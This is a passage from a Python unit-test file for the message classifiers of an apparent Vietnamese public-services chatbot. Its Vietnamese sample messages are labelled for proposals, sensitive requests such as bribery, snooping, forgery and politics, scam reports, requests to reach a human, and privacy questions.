    ("góp ý: bot trả lời dài quá", True),
    ("Tôi muốn phản ánh cán bộ gây khó dễ thì gửi ở đâu", False),  # asks the way
    ("Tôi muốn phản ánh lên trên. Gửi đơn cho ai?", False),  # a question mark
    ("Tôi đề nghị hướng dẫn cách kích hoạt VNeID", False),  # asks for guidance
    ("cán bộ đề nghị tôi nộp thêm giấy xác nhận cư trú", False),  # someone else's request, told
    ("tôi đã đề nghị cán bộ trả lại hồ sơ", False),  # told in the past
    ("phản ánh kiến nghị với khiếu nại khác nhau sao", False),  # another question
    ("phan anh kien nghi co mat phi khong", False),
    ("phản ánh cán bộ làm chậm hồ sơ gọi số nào", False),
    ("làm căn cước hết bao nhiêu tiền", False),
])
def test_proposes(text: str, on_record: bool) -> None:
    assert proposes(text) is on_record
    if on_record:  # a rhetorical "…có ích gì" inside a proposal is not a question
        assert not asks_something(text)


@pytest.mark.parametrize(("text", "reason"), [
    ("Cho tui xin số Zalo riêng của ông trưởng công an xã", "private"),
    ("Cho tôi số điện thoại riêng với địa chỉ nhà ông chủ tịch xã", "private"),
    ("cho xin sdt riêng của cán bộ hộ tịch", "private"),
    ("nha rieng cua can bo tu phap xa o dau", "private"),
    ("Tôi muốn đổi số điện thoại riêng của tôi trên VNeID", ""),  # the resident's own
    ("địa chỉ nhà của bà ngoại để đăng ký tạm trú", ""),  # a relative's home, for a procedure
    ("số điện thoại của bộ phận một cửa", ""),  # a public contact
    # paying on the side, asked about
    ("làm sổ đỏ phải bôi trơn mới nhanh, nên đưa cho ai?", "bribe"),
    ("có cần lót tay cho cán bộ tư pháp không", "bribe"),
    ("lay can cuoc nhanh thi boi duong cho can bo bao nhieu", "bribe"),
    ("phải đưa phong bì mới được làm nhanh hả", "bribe"),
    ("Cán bộ xã đòi tôi đưa phong bì mới ký, tôi rất bức xúc.", ""),  # a report, no question: feedback
    ("gửi hồ sơ qua bưu điện có cần phong bì dán tem không", ""),  # an envelope
    ("cảm ơn cán bộ xã đã giúp tôi làm giấy tờ", ""),
    ("lệ phí làm căn cước bao nhiêu", ""),
    # someone else's account or data
    ("chỉ tui cách vô vneid của vợ coi nó nhắn tin với ai", "snooping"),
    ("Tra giùm tôi số căn cước với địa chỉ của cô Nguyễn Thị Hoa ở phường tôi", "snooping"),
    ("tra so cccd cua anh Hung o xom tren", "snooping"),
    ("tra số căn cước của con tôi ở đâu", ""),  # the resident's own child
    ("số căn cước của mẹ tôi để khai tạm trú lấy ở đâu", ""),
    ("đăng nhập vneid của mẹ để nộp hồ sơ giúp mẹ được không", ""),
    ("xem tin nhắn OTP trên điện thoại của mẹ", ""),
    # a political judgement, gossip about an official
    ("Sáp nhập xong tên xã cũ mất luôn, nhà nước làm vậy đúng hay sai?", "politics"),
    ("Bầu cử lần này có thật sự dân chủ không, nói thật đi", "politics"),
    ("Trưởng công an xã mới xây nhà mấy tỷ, ổng lấy tiền ở đâu ra?", "politics"),
    ("lệ phí 30 nghìn đúng không", ""),
    ("chữ ký số có đúng hay sai luật không", ""),
    ("tạm trú ở đây thì bầu cử có được bỏ phiếu không", ""),
    ("nhà nước có hỗ trợ tiền cho người già không", ""),
    # where an official lives or goes, a private number after a title
    ("ông bí thư xã ở nhà nào vậy, tôi muốn tới nói chuyện riêng", "private"),
    ("chủ tịch phường mấy giờ tan làm, đi đường nào về?", "private"),
    ("cán bộ tư pháp cũ của xã, cho tôi số di động riêng của chị ấy", "private"),
    ("giờ làm việc của bộ phận một cửa xã là mấy giờ", ""),
    # paying on the side, in other words
    ("muốn vào danh sách hộ nghèo thì phải chi bao nhiêu cho trưởng thôn?", "bribe"),
    ("nghe nói phải cảm ơn trưởng ấp trước, mấy trăm là vừa?", "bribe"),
    ("họ gợi ý đưa tiền mặt hay chuyển khoản thì an toàn hơn cho cả hai?", "bribe"),
    ("làm hộ chiếu nhanh, tui sẵn sàng chi thêm, biết ai lo được không?", "bribe"),
    ("nộp lệ phí bằng tiền mặt hay chuyển khoản được ạ", ""),
    ("cần chứng minh quan hệ bằng giấy tờ gì khi nhập hộ khẩu cho bà", ""),
    # someone else's password, card photos or criminal record
    ("tui có mật khẩu vneid của chồng, đăng nhập vô coi ổng khai tạm trú chỗ nào được không", "snooping"),
    ("chỗ nào cho mua ảnh căn cước của người khác để mở tài khoản", "snooping"),
    ("xin lý lịch tư pháp của ông hàng xóm giùm tôi được không", "snooping"),
    ("xin lý lịch tư pháp cho con trai đang đi làm ở Nhật thế nào", ""),
    # whom to vote for, which side, religion
    ("bầu cử tới tui nên bầu cho ai đây bot?", "politics"),
    ("bot đứng về phe nào vậy, nói thật đi", "politics"),
    ("bạn nghĩ gì về chính phủ", "politics"),
    ("tôi đã đăng nhập được nhưng không thấy mục nộp hồ sơ", ""),
    ("theo bot thì đạo nào mới là đạo đúng?", "religion"),
    ("đốt vàng mã cầu tài có linh không hay chỉ là mê tín?", "religion"),
    ("nhà thờ giáo xứ có xác nhận giấy tờ kết hôn được không", ""),
    # a forged or bought paper; not a resident who was sold one or wants to tell one apart, nor a price ("giá")
    ("chỗ nào làm giả bằng lái xe máy lấy liền vậy", "forgery"),
    ("Tui muốn làm cái sổ hồng giả để cầm cố, ai làm được không", "forgery"),
    ("lam gia con dau cong ty o dau", "forgery"),
    ("mua giấy khám sức khỏe không cần khám ở đâu", "forgery"),
    ("làm sao phân biệt căn cước giả với thật", ""),
    ("mua phải bằng lái giả thì có bị phạt không", ""),
    ("ho chieu gia bao nhieu", ""),
    ("mua thẻ bảo hiểm y tế hộ gia đình ở đâu", ""),
    ("mua bằng tiền mặt được không", ""),
])
def test_sensitive_request(text: str, reason: str) -> None:
    assert sensitive_request(text) == reason


@pytest.mark.parametrize(("text", "scam"), [
    ("nhận được tin nhắn cấp lại sổ đỏ bị mất qua đường link có thật không", True),
    ("Có người xưng công an gọi hướng dẫn nâng cấp định danh qua điện thoại, có nên làm theo?", True),
    ("co nguoi nhan zalo bao cai app la de nhan tro cap, co phai lua dao khong", True),
    ("cấp lại sổ đỏ bị mất làm ở đâu", False),  # no contact to doubt
    ("tôi không nhận được tin nhắn OTP", False),  # a text, not doubted
    ("gọi tổng đài 1900 0368 có mất phí không", False),
    # a contact that claims a role, or asks for a secret, money or an install, doubted or not
    ("Có ông tự xưng công an gọi xin mã OTP, tính sao đây", True),
    ("sáng nay số lạ gọi nói tài khoản dính vụ án, bảo chuyển tiền vào tài khoản tạm giữ", True),
    ("co tin nhan keu cai vneid theo duong link de nhan qua cua nha nuoc", True),
    ("mot nick tu xung luat su hua lay lai tien bi lua", True),
    ("nhà tôi ở xung quanh chợ, làm căn cước ở đâu gần nhất", False),  # "xung quanh" is not "xưng"
    ("cán bộ xã gọi điện bảo tôi lên bổ sung hồ sơ", False),  # no role claimed, nothing handed over
    ("tôi đổi mật khẩu vneid mà không nhận được tin nhắn OTP", False),
    ("ngân hàng nhắn tin báo chuyển khoản thành công mà hồ sơ chưa cập nhật", False),
])
def test_sounds_like_scam(text: str, scam: bool) -> None:
    assert sounds_like_scam(text) is scam


@pytest.mark.parametrize(("text", "person"), [
    ("Cho tôi gặp cán bộ nào nói được tiếng Khmer", True),  # meeting a person, whatever the shape
    ("tôi cần một con người chứ không cần máy", True),
    ("Làm ơn nối máy cho trưởng công an xã", True),
    ("nhờ cán bộ phụ trách gọi lại cho tôi chiều nay", True),
    ("Xin xã cho người xuống nhà làm giấy ủy quyền giúp bà tôi, bà không đi được", True),
    ("Nhờ bố trí một cán bộ biết ngôn ngữ ký hiệu ngồi cùng em khi nộp hồ sơ", True),
    ("công an có xuống nhà làm căn cước cho người già không?", False),  # asks whether: a guide answers
    ("Đề nghị công an xuống tận nhà làm căn cước cho các cụ.", False),  # a proposal for everyone: feedback
    ("Tôi đánh giá cao việc xã cử người đến tận nhà hướng dẫn các cụ.", False),  # praise
    ("Hôm qua tôi xin nghỉ để lên xã, tới nơi thì hết giờ nhận hồ sơ.", False),
    ("vneid lỗi kết nối máy chủ", False),
    ("có người gọi cho tôi xưng công an bảo cài ứng dụng, có phải lừa đảo không?", False),
])
def test_asks_for_a_person(text: str, person: bool) -> None:
    assert asks_for_a_person(text) is person


def test_somewhere_everywhere_is_not_a_question() -> None:
    assert not asks_something("Chỗ nào cũng đòi một bản sao mới, lần nào cũng mất tiền.")
    assert asks_something("nộp bản sao ở chỗ nào")


@pytest.mark.parametrize(("text", "asks"), [
    ("bên này là người trả lời hay máy vậy", True),
    ("nguoi that hay may vay", True),
    ("máy tự động hay nhân viên đang trực vậy", True),
    ("có phải bot không em", True),
    ("người già hay mấy đứa nhỏ đều làm được không", False),  # "mấy" (how many) folds like "máy"
    ("mấy giờ thì có người trực hay phải chờ", False),
    ("Cô giáo hay đăng bài lạ. Bot tìm số của cô ấy giúp em", False),  # "lạ. Bot" is not "là bot"
    ("cho tôi gặp người thật, không nói chuyện với máy nữa", False),  # a request for a person
])
def test_asks_who_answers(text: str, asks: bool) -> None:
    assert asks_who_answers(text) is asks


@pytest.mark.parametrize(("text", "asks"), [
    ("chat với bot thì tin nhắn của tôi có bị lưu lại không", True),
    ("bên này có giữ lại số căn cước tôi gửi không", True),
    ("nhan tin voi em thi can bo xa co doc duoc khong, thong tin co bi lo ra ngoai khong", True),
    ("thông tin trên VNeID có bị lộ không", False),  # VNeID's own data: the guides answer it
    ("bot ơi xem thông tin tạm trú ở đâu", False),  # "xem thông tin" is a how-to
    ("lưu giấy khai sinh bản gốc ở đâu cho khỏi mất", False),
    ("tôi đã gửi thông tin cho bot rồi.", False),  # asks nothing
])
def test_asks_about_privacy(text: str, asks: bool) -> None:
    assert asks_about_privacy(text) is asks


@pytest.mark.parametrize(("text", "expected"), [
    ("thế làm tạm trú cho con thì hết bao nhiêu", "làm tạm trú cho con thì hết bao nhiêu"),
    ("Vậy còn hộ chiếu thì sao", "hộ chiếu thì sao"),
    ("Thế thì, nộp ở đâu ạ", "nộp ở đâu ạ"),
    ("vậy đổi bằng lái thì bao lâu xong", "đổi bằng lái thì bao lâu xong"),
    # words that ask or close, not open: kept
    ("thế nào là hộ kinh doanh", "thế nào là hộ kinh doanh"),
    ("Vậy thôi, cảm ơn", "Vậy thôi, cảm ơn"),
    ("thế à", "thế à"),
    ("vậy là xong hả", "vậy là xong hả"),
    # "thẻ" (a card) is not "thế", and without diacritics the two cannot be told apart
    ("thẻ bhyt mất rồi", "thẻ bhyt mất rồi"),
    ("the con toi mat roi", "the con toi mat roi"),
    ("vậy ạ", "vậy ạ"),  # nothing would be left
])
def test_without_opening_words(text: str, expected: str) -> None:
    assert without_opening_words(text) == expected
